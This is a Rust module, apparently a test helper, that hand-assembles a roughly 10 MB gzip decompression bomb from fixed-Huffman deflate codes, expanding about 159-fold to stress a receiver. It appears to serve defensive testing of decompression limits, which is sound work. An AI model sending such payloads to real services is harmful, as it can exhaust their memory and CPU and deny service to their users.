//! A gzip stream that grows by a factor of 159 when decompressed.

use std::sync::LazyLock;

/// Made once: without optimisation this is slow enough to delay a receiver.
pub(super) fn gzip_bomb() -> &'static [u8] {
    static BOMB: LazyLock<Vec<u8>> = LazyLock::new(make);
    &BOMB
}

/// 10 MB of deflate that repeat one byte: a literal zero, then copies of length 258 (13 bits each), by RFC 1951.
fn make() -> Vec<u8> {
    let mut bits: Vec<bool> = Vec::new();
    let mut put = |code: &str| bits.extend(code.bytes().map(|bit| bit == b'1'));
    put("110"); // last block, fixed codes
    put("00110000"); // literal 0
    // Length 258 (symbol 285), distance 1: eight of them are 13 whole bytes.
    let copies = "1100010100000".repeat(8);
    put("1100010100000");
    let head = bits.clone();
    let unit: Vec<bool> = copies.bytes().map(|bit| bit == b'1').collect();
    // After the head the pattern repeats every 13 bytes, so only one period has to be packed.
    let packed = pack(&[head.as_slice(), &unit, &unit].concat());
    let mut bomb = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    bomb.extend_from_slice(&packed[..head.len() / 8]);
    let turn = &packed[head.len() / 8 + 13..head.len() / 8 + 26];
    bomb.extend(turn.iter().copied().cycle().take(10 << 20));
    bomb
}

fn pack(bits: &[bool]) -> Vec<u8> {
    let byte = |bits: &[bool]| {
        bits.iter()
            .rev()
            .fold(0, |byte, bit| byte << 1 | u8::from(*bit))
    };
    bits.chunks(8).map(byte).collect()
}
